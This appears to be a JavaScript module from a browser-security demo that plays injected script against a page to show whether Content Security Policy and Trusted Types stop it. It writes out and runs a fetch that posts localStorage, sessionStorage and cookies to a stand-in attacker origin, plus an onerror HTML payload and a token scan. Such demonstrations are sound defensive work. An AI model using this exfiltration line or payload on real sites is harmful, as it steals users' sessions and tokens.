// @ts-check
import { origins } from './origins.js'

/** @typedef {import('./board.js').Answer} Answer */

/** The one line, as it stands in the guest book of the page "What not to do". */
export const theLine = `fetch('${origins.evil}/loot', { method: 'POST', mode: 'no-cors', body: JSON.stringify([localStorage, sessionStorage, document.cookie]) })`

/**
 * Plays script that got into the page: first as text in the page, then as if a package that the page loads were
 * poisoned. It can do what the page can do.
 *
 * @param {() => Promise<readonly string[]>} insider What a thief would try who knows this app.
 * @returns {Promise<Answer>}
 */
export async function injectScript(insider) {
  return {
    outcome: 'refused',
    stamp: 'Script in the page',
    text: 'First as text in the page, then as a poisoned package would run, with the powers of the page itself:',
    findings: [
      tryMarkup(),
      await tryTheLine(),
      `The line would have carried: ${findReadable()}.`,
      ...(await insider()),
    ],
  }
}

/** A guest book entry with an event handler in it. */
function tryMarkup() {
  try {
    document.createElement('div').innerHTML = '<img src="data:," onerror="0">'
    return 'As text: it became HTML.'
  } catch {
    return 'As text: it never became HTML (require-trusted-types-for).'
  }
}

async function tryTheLine() {
  try {
    const body = JSON.stringify([localStorage, sessionStorage, document.cookie])
    await fetch(`${origins.evil}/loot`, { method: 'POST', mode: 'no-cors', body })
    return 'The one line: it was sent.'
  } catch {
    return 'The one line: the browser did not send it (connect-src). A thief has other ways out; do not rely on it.'
  }
}

function findReadable() {
  const everything = JSON.stringify([localStorage, sessionStorage, document.cookie])
  const tokens = everything.match(/eyJ[\w-]+\.[\w-]+\.[\w-]+/g) ?? []
  return tokens.length === 0 ? 'no token' : `${String(tokens.length)} tokens`
}
